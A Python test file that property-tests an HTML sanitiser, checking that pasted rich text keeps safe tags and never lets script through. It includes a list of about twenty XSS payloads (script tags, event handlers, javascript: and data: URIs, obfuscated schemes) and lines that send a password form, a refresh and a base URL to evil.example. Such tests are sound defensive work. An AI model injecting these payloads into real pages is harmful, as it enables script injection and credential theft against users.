"""Rich text: what staff paste is shown, and nothing of it runs."""

import html.parser
import re
from typing import override

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lonja.content._cleaning import ATTRIBUTES, TAGS, cleaned, plain

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" onclick="alert(1)" style="x:expression(1)">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<<script>script>alert(1)<</script>/script>",
)
pieces = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from([*(f"<{tag}>" for tag in sorted(TAGS)), "</p>", "</a>", "<", ">", '"', "'"]),
    st.text(max_size=12),
)


class Elements(html.parser.HTMLParser):
    """Every element with its attributes, as a browser's parser would come upon them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def elements(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    reader = Elements()
    reader.feed(text)
    return reader.found


@given(st.lists(pieces, max_size=12).map("".join))
def test_nothing_that_runs_passes(text: str) -> None:
    for tag, attributes in elements(cleaned(text)):
        assert tag in TAGS
        for name, value in attributes:
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
            scheme = re.match(r"\s*([^/?#]*?):", value or "")
            if name == "href" and scheme:
                assert scheme[1].lower() in {"http", "https", "mailto", "tel"}


@given(st.lists(pieces, max_size=12).map("".join))
def test_what_is_clean_stays_as_it_is(text: str) -> None:
    once = cleaned(text)

    assert cleaned(once) == once


class TestCleaned:
    def test_keeps_what_a_page_is_written_in(self) -> None:
        text = (
            '<h2>Wash</h2><p>At <strong>30°</strong>, see <a href="/es/pages/care">care</a>.</p>'
            "<ul><li>by hand</li></ul><table><tbody><tr><td>1</td></tr></tbody></table>"
        )

        assert cleaned(text) == text

    @pytest.mark.parametrize("text", ["", "  ", "<script>x</script>", "<p></p>"])
    def test_says_nothing_where_there_is_nothing_to_read(self, text: str) -> None:
        assert plain(cleaned(text)) == ""

    def test_is_read_on_one_line(self) -> None:
        assert plain("<h2>Wash</h2><p>5 &lt; 6<br>and more</p>") == "Wash 5 < 6 and more"
